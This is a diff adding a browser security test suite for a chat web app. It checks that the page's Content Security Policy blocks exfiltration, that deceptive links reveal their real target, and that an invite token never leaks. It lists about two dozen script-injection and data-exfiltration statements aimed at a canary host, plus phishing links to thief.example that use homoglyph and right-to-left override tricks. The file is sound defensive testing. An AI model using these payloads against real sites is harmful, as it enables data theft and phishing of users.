@@ -1,0 +1,123 @@
+"""The page's second line: what its policy refuses by itself, where its links say they lead, and where its token goes."""
+
+import pytest
+from playwright.sync_api import Error, expect
+
+from tests.browser.planted import Planter
+
+pytest_plugins = ["tests.browser.watch"]
+
+# What a hole in the first line could try, each as a statement that runs with the page's own rights.
+ATTEMPTS = {
+    "an image": "new Image().src = 'http://CANARY/'",
+    "an image's set": "add('img', {srcset: 'http://CANARY/ 1x'})",
+    "fetch": "fetch('http://CANARY/', {mode: 'no-cors'}).catch(() => 0)",
+    "a beacon": "navigator.sendBeacon('http://CANARY/', 'x')",
+    "a socket": "new WebSocket('ws://CANARY/')",
+    "an event source": "new EventSource('http://CANARY/')",
+    "a ping": "add('a', {ping: 'http://CANARY/', href: '#'}).click()",
+    "a frame": "add('iframe', {src: 'http://CANARY/'})",
+    "an object": "add('object', {data: 'http://CANARY/'})",
+    "a video": "add('video', {src: 'http://CANARY/'})",
+    "a font": "new FontFace('x', 'url(http://CANARY/)').load().catch(() => 0)",
+    "a style sheet": "add('link', {rel: 'stylesheet', href: 'http://CANARY/'})",
+    "a prefetch": "add('link', {rel: 'prefetch', href: 'http://CANARY/'})",
+    "an inline style": "add('style', {textContent: 'body { background: url(http://CANARY/) }'})",
+    "a form": "add('form', {action: 'http://CANARY/'}).submit()",
+    "a base": "add('base', {href: 'http://CANARY/'}); new Image().src = 'x.png'",
+    "a script's address": "add('script', {src: 'http://CANARY/'})",
+    "a module": "import('http://CANARY/').catch(() => 0)",
+    "a worker": "new Worker('http://CANARY/')",
+    "HTML as text": "document.body.insertAdjacentHTML('beforeend', '<img src=http://CANARY/>')",
+    "an inline script": "add('script', {textContent: 'window.ran = 1'})",
+    "an inline handler": "const b = add('b', {}); b.setAttribute('onclick', 'window.ran = 1'); b.click()",
+    "a javascript: link": "add('a', {href: 'javascript:window.ran = 1'}).click()",
+    "code from text": "setTimeout('window.ran = 1')",
+}
+ADD = "const add = (tag, props) => document.body.appendChild(Object.assign(document.createElement(tag), props));"
+
+
+def test_the_policy_alone_refuses_what_a_hole_could_try(stack, hostile, canary):
+    page = hostile(Planter(stack, "mallory")).page
+    allowed = []
+    for name, statement in ATTEMPTS.items():
+        try:
+            page.evaluate(canary.arm(f"() => {{ {ADD} {statement} }}"))
+        except Error as refused:
+            assert "Trusted" in str(refused) or "Content Security Policy" in str(refused) or "denied" in str(refused), name
+        page.wait_for_timeout(100)
+        # Before a frame or a form Chromium may open a connection ahead of its policy; without a request it says nothing.
+        asked = [path for path in canary.heard if path != "a connection"]
+        if asked or page.evaluate("window.ran"):
+            allowed.append((name, *asked))
+            canary.heard.clear()
+            page.evaluate("delete window.ran")
+    assert allowed == []
+
+
+def test_the_policy_allows_nothing_inline_and_no_foreign_script(stack):
+    (policy,) = {line.split('content="')[1].split('"')[0] for line in stack.page().text.splitlines() if "Content-Security-Policy" in line}
+    rules = {words[0]: words[1:] for words in (rule.split() for rule in policy.split("; "))}
+    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
+    assert rules["script-src"] == rules["style-src"] == ["'self'"]
+    assert rules["require-trusted-types-for"] == ["'script'"]
+    assert "unsafe" not in policy
+    assert "*" not in policy
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("[https://bank.example](http://thief.example/)", "https://bank.example (thief.example)"),
+        ("[bank.example/login](http://bank.example.thief.example/)", "bank.example/login (bank.example.thief.example)"),
+        ("http://bank.example@thief.example/x", "http://bank.example@thief.example/x (thief.example)"),
+        ("<https://\u0430pple.example/>", "https://\u0430pple.example/ (xn--pple-43d.example)"),
+        ("[\u202emoc.elpmaxe](http://thief.example/)", "\u202emoc.elpmaxe (thief.example)"),
+        ("https://honest.example/a?b", "https://honest.example/a?b"),
+        ("[read this](https://honest.example/ 'https://bank.example')", "read this"),
+    ],
+)
+def test_a_link_that_looks_like_another_address_says_where_it_leads(stack, hostile, text, shown):
+    planter = Planter(stack, "mallory")
+    watch = hostile(planter, planter.conversation("Links", [text]))
+    link = watch.page.locator(".message-text a")
+    expect(link).to_have_text(shown)
+    assert link.get_attribute("title") == link.evaluate("link => link.href")
+    assert link.evaluate("link => getComputedStyle(link).unicodeBidi") == "isolate"
+    assert watch.trouble() == []
+
+
+def test_a_title_turns_no_sentence_round(stack, hostile):
+    planter = Planter(stack, "mallory")
+    watch = hostile(planter, planter.conversation("\u202eabc\u2067 \u05d0", ["\u202eHello"]))
+    page = watch.page
+    expect(page.locator('[data-role="assistant"]')).to_have_count(1)
+    assert page.title() == "\u2068abc \u05d0\u2069 – Forever Us"
+    page.get_by_role("button", name="Delete").first.click(force=True)
+    expect(page.locator('[data-part="ask-text"]')).to_have_text("“\u2068abc \u05d0\u2069” and all its messages will be gone for good.")
+    assert page.locator("[dir]:not([dir=auto]):not([dir=ltr])").count() == 0
+    assert page.locator('[data-part="app"]').evaluate("app => getComputedStyle(app).direction") == "ltr"
+
+
+def test_the_token_shows_nowhere(stack, visit):
+    guest, said = visit(), []
+    planter = Planter(stack, "mallory")
+    guest.page.on("request", lambda request: said.append((request.url, request.headers.get("referer", ""))))
+    guest.page.on("websocket", lambda socket: said.append((socket.url, "")))
+    page = guest.open(planter.link)
+    page.get_by_role("textbox", name="Message").fill("Say hello in one short sentence.")
+    page.get_by_role("button", name="Send").click()
+    expect(page.locator('[data-role="assistant"][data-status="complete"]')).to_have_count(1, timeout=60_000)
+    assert len(said) > 20
+    # The link itself is navigated to with its fragment, which a browser keeps to itself.
+    urls = [url.split("#invite=")[0] for url, _ in said]
+    assert not [url for url in urls if planter.token in url]
+    assert {referrer for _, referrer in said} == {""}
+    seen = "[document.documentElement.outerHTML, document.cookie, location.href, ...navigation.entries().map(entry => entry.url)]"
+    assert planter.token not in "".join(page.evaluate(seen))
+    page.go_back()
+    assert planter.token not in page.url
+    kept = [path for path in (stack.folder / ".local").rglob("*") if path.is_file() and path.name != "owner-token"]
+    assert any(path.suffix == ".log" for path in kept)
+    tokens = [planter.token.encode(), stack.token.encode()]
+    assert [path.name for path in kept if any(token in path.read_bytes() for token in tokens)] == []
